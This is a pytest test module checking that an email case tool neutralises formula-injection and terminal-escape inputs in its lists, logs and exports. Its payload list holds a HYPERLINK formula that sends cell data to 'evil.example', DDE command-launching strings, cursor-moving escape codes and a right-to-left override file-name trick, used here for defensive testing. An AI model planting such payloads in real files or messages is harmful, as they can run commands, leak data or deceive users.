"""Threat 73, spreadsheets and terminals: a name that is a formula or moves the cursor is inert wherever it is shown.

casepost writes no spreadsheet; what it writes for people are lines on a terminal, the log and the text of an export.
"""

import json
import re
import zipfile
from pathlib import Path

import pytest

from tests.seen import wait_until_quiet
from tests.service import QUEUE, Service, mail

_EVIL = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\x1b]0;owned\x07title",
    "\x1b[2J\x1b[1;1Hcleared",
    "\x9b31mred",
    "gnp\u202eexe.",
    "line one\rline two",
)
_SHOWN = (
    ("case", "list"),
    ("delivery", "list", "--all"),
    ("junk", "list", "--all"),
    ("quarantine", "list"),
    ("due", "--at", "2030-01-01T00:00:00Z"),
    ("figures",),
)
_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_MOVES = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def told(shared_service: Service) -> Service:
    """A service that was sent each of them as a name, a subject, a word and the name of a file."""
    for number, evil in enumerate(_EVIL):
        one = mail("x", f"Order 302-1234567-765432{number}: {evil}", sender=f"seller{number}@shop.example")
        del one["From"], one["Subject"]
        one["From"] = f'"{_quoted(evil)}" <seller{number}@shop.example>'
        one["Subject"] = _one_line(evil)
        one.add_attachment(b"a;b", maintype="text", subtype="csv", filename=_one_line(evil) + ".csv")
        shared_service.send(one, sender=f"seller{number}@shop.example", to=[QUEUE])
    wait_until_quiet(shared_service)
    assert len(shared_service.cases()) == len(_EVIL)
    return shared_service


def _one_line(text: str) -> str:
    return " ".join(text.split("\r"))


def _quoted(text: str) -> str:
    return _one_line(text).replace("\\", "\\\\").replace('"', '\\"')


@pytest.mark.parametrize("words", _SHOWN, ids=" ".join)
def test_73_no_list_moves_the_cursor(told: Service, words: tuple[str, ...]) -> None:
    done = told.run(*words)
    assert done.returncode == 0, done.stderr
    assert _MOVES.findall(done.stdout + done.stderr) == []


def test_73_no_case_that_is_shown_moves_the_cursor(told: Service) -> None:
    for case in told.cases()[:4]:
        assert _MOVES.findall(told.run("case", "show", case["number"]).stdout) == []


def test_73_what_is_printed_for_programs_is_json_with_all_controls_escaped(told: Service) -> None:
    out = told.run("case", "list", "--json").stdout
    assert len(json.loads(out)) == len(_EVIL)
    assert _MOVES.findall(out) == []


def test_73_no_line_of_the_log_moves_the_cursor_or_tells_a_name(told: Service) -> None:
    log = told.log.read_text(encoding="utf-8")
    assert _MOVES.findall(log) == []
    assert "HYPERLINK" not in log


def test_73_the_text_of_an_export_is_inert_and_none_of_its_files_is_a_spreadsheet(
    told: Service, tmp_path: Path
) -> None:
    target = tmp_path / "cases.zip"
    numbers = [case["number"] for case in told.cases()]
    done = told.run("case", "export", *numbers, "--to", str(target), "--internal")
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(target) as archive:
        names = archive.namelist()
        texts = [archive.read(name).decode() for name in names if name.endswith(".txt")]
        documents = [archive.read(name).decode() for name in names if name.endswith(".json")]
    assert len(texts) == len(documents) == len(_EVIL)
    assert [_CONTROLS.findall(one) for one in documents] == [[]] * len(documents)  # for programs: words as they are
    assert {Path(name).suffix for name in names} <= {".txt", ".json", ".eml"}
    assert [_MOVES.findall(text) for text in texts] == [[]] * len(texts)
